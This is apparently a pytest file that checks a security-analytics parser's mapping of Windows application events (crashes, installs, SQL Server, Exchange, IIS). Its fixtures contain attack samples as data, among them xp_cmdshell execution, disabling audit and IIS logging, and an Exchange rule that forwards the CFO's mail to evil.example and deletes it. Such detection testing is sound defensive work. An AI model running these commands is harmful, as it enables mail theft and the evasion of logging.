"""What applications say: crashes, installations, SQL Server, Exchange, IIS; and what nobody knows."""

from typing import Any

import pytest

from tests.uba.sources.windows_samples import SECURITY, Meaning, event_id, event_of, xml
from uba import activities as a
from uba.events import (
    API_ACTIVITY,
    APPLICATION_ERROR,
    APPLICATION_LIFECYCLE,
    AUTHENTICATION,
    DATASTORE,
    ENTITY_MANAGEMENT,
    EVENT_LOG,
    FAILURE,
    SUCCESS,
)

MEANINGS: list[Meaning] = [
    (
        xml("Application Error", 1000, {"AppName": "WINWORD.EXE", "ExceptionCode": "c0000005"}, channel="Application"),
        (APPLICATION_ERROR, a.ERROR_GENERAL, FAILURE),
        {"app_name": "winword.exe", "status_code": "c0000005"},
    ),
    (
        xml(
            "Windows Error Reporting",
            1001,
            values=["0", "0", "APPCRASH", "Not available", "0", "excel.exe"],
            channel="Application",
        ),
        (APPLICATION_ERROR, a.ERROR_GENERAL, FAILURE),
        {"app_name": "excel.exe"},
    ),
    (
        xml("Application Hang", 1002, values=["outlook.exe", "16.0"], channel="Application"),
        (APPLICATION_ERROR, a.ERROR_GENERAL, FAILURE),
        {"app_name": "outlook.exe"},
    ),
    (
        xml("MsiInstaller", 1033, values=["Tool", "1.0", "1033", "0", "Maker"], channel="Application"),
        (APPLICATION_LIFECYCLE, a.APP_INSTALL, SUCCESS),
        {"app_name": "Tool"},
    ),
    (
        xml("MsiInstaller", 1033, values=["Tool", "1.0", "1033", "1603", "Maker"], channel="Application"),
        (APPLICATION_LIFECYCLE, a.APP_INSTALL, FAILURE),
        {"status_code": "1603"},
    ),
    (
        xml("MsiInstaller", 11707, values=["Product: Tool -- Installation completed successfully."]),
        (APPLICATION_LIFECYCLE, a.APP_INSTALL, SUCCESS),
        {"app_name": "Tool"},
    ),
    (
        xml("MSSQL$APP", 18456, values=["sa", " Reason: wrong", " [CLIENT: 10.20.4.91]"], channel="Application"),
        (AUTHENTICATION, a.AUTH_LOGON, FAILURE),
        {"actor_user_name": "sa", "src_ip": "10.20.4.91", "status_code": "18456"},
    ),
    (
        xml(
            "MSSQLSERVER",
            33205,
            values=[
                "audit_schema_version:1 event_time:2026-03-09 action_id:EX succeeded:true "
                "session_server_principal_name:CORP\\s.ferro server_principal_name:CORP\\s.ferro database_name:master "
                "schema_name:sys object_name:xp_cmdshell statement:EXEC xp_cmdshell 'dir c:' client_ip:10.20.4.91"
            ],
            channel="Application",
        ),
        (DATASTORE, a.DATA_QUERY, SUCCESS),
        {
            "actor_user_name": "corp\\s.ferro",
            "query_text": "EXEC xp_cmdshell 'dir c:'",
            "resource_name": "xp_cmdshell",
            "src_ip": "10.20.4.91",
            "database_name": "master",
        },
    ),
    (
        xml(
            "MSSQLSERVER", 33205, values=["action_id:AL succeeded:true statement:ALTER SERVER AUDIT a WITH (STATE=OFF)"]
        ),
        (EVENT_LOG, a.EVENT_LOG_DISABLE, SUCCESS),
        {},
    ),
    (
        xml("MSSQLSERVER", 15457, values=["xp_cmdshell", "0", "1"], channel="Application"),
        (ENTITY_MANAGEMENT, a.ENTITY_UPDATE, SUCCESS),
        {"entity_name": "xp_cmdshell", "status_detail": "0 to 1"},
    ),
    (
        xml("MSSQLSERVER", 8128, values=["xpstar.dll", "2022.160", "xp_dirtree"], channel="Application"),
        (DATASTORE, a.DATA_QUERY, SUCCESS),
        {"query_text": "xp_dirtree"},
    ),
    (
        xml("MSSQLSERVER", 17135, values=["sp_evil"], channel="Application"),
        (DATASTORE, a.DATA_QUERY, SUCCESS),
        {"query_text": "sp_evil"},
    ),
    (
        xml(
            "MSExchange CmdletLogs",
            1,
            values=["Install-TransportAgent", '-Name "Relay" -AssemblyPath "C:\\a.dll"', "corp.example/Staff/Admin1"],
            channel="MSExchange Management",
        ),
        (APPLICATION_LIFECYCLE, a.APP_INSTALL, SUCCESS),
        {"app_name": "Relay", "api_operation": "Install-TransportAgent", "actor_user_name": "admin1"},
    ),
    (
        xml(
            "MSExchange CmdletLogs",
            6,
            values=["Enable-TransportAgent", "-Identity Relay"],
            channel="MSExchange Management",
        ),
        (APPLICATION_LIFECYCLE, a.APP_ENABLE, FAILURE),
        {},
    ),
    (
        xml(
            "MSExchange CmdletLogs",
            1,
            values=["New-InboxRule", "-Name '.' -Mailbox cfo -ForwardTo (\"Eve@evil.example\") -DeleteMessage $true"],
            channel="MSExchange Management",
        ),
        (ENTITY_MANAGEMENT, a.ENTITY_CREATE, SUCCESS),
        {
            "entity_type": "rule",
            "entity_name": ".",
            "email_to": ("eve@evil.example",),
            "query_text": "Name=.; Mailbox=cfo; ForwardTo=Eve@evil.example; DeleteMessage=$true",
        },
    ),
    (
        xml(
            "MSExchange Management",
            1,
            values=["Cmdlet Add-MailboxPermission, parameters {Identity=cfo, User=Eve, AccessRights=FullAccess}."],
            channel="MSExchange Management",
        ),
        (ENTITY_MANAGEMENT, a.ENTITY_UPDATE, SUCCESS),
        {"user_name": "eve", "access_list": ("FullAccess",), "entity_uid": "cfo"},
    ),
    (
        xml("MSExchange CmdletLogs", 1, values=["Set-Mailbox", '-Identity "cfo"'], channel="MSExchange Management"),
        (ENTITY_MANAGEMENT, a.ENTITY_UPDATE, SUCCESS),
        {"entity_type": "mailbox", "entity_name": "cfo", "entity_uid": "cfo"},
    ),
    (
        xml(
            "Microsoft-Windows-IIS-Configuration",
            29,
            {"Configuration": "/system.webServer/modules/add[@name='m']", "ConfigPath": "MACHINE/WEBROOT/APPHOST"},
        ),
        (APPLICATION_LIFECYCLE, a.APP_INSTALL, SUCCESS),
        {},
    ),
    (
        xml(
            "Microsoft-Windows-IIS-Configuration",
            29,
            {"Configuration": "/system.webServer/httpLogging/@dontLog", "NewValue": "true"},
        ),
        (EVENT_LOG, a.EVENT_LOG_DISABLE, SUCCESS),
        {},
    ),
    (
        xml("Microsoft-Windows-Audit-CVE", 1, {"CVEID": "CVE-2020-0601", "AdditionalDetails": "CA"}),
        (APPLICATION_ERROR, a.ERROR_GENERAL, FAILURE),
        {"rule_uid": "CVE-2020-0601"},
    ),
    (
        xml("VsJITDebugger", 4096, values=["app.exe"], channel="Application"),
        (APPLICATION_ERROR, a.ERROR_GENERAL, FAILURE),
        {"app_name": "app.exe"},
    ),
    (
        xml(
            "VsJITDebugger",
            4096,
            values=["An unhandled win32 exception occurred in W3WP.exe [4128]. Just-In-Time debugging failed."],
            channel="Application",
        ),
        (APPLICATION_ERROR, a.ERROR_GENERAL, FAILURE),
        {
            "app_name": "w3wp.exe",
            "status_detail": "An unhandled win32 exception occurred in W3WP.exe [4128]. Just-In-Time debugging failed.",
        },
    ),
    (xml("Microsoft-Windows-Sysmon", 1000), (API_ACTIVITY, a.OTHER_ACTIVITY, 0), {"event_code": "1000"}),
    (xml(SECURITY, 5156), (API_ACTIVITY, a.OTHER_ACTIVITY, 0), {"api_operation": f"{SECURITY} 5156"}),
]


@pytest.mark.parametrize(("record", "meaning", "attributes"), MEANINGS, ids=event_id)
def test_an_id_means_what_its_provider_says(
    record: bytes, meaning: tuple[int, int, int], attributes: dict[str, Any]
) -> None:
    """Class, activity, outcome, and who did what to whom."""
    parsed = event_of(record)

    assert (parsed.class_uid, parsed.activity_id, parsed.status_id) == meaning
    assert {name: getattr(parsed, name) for name in attributes} == attributes
    assert parsed.device_hostname == "dc02.corp.example"
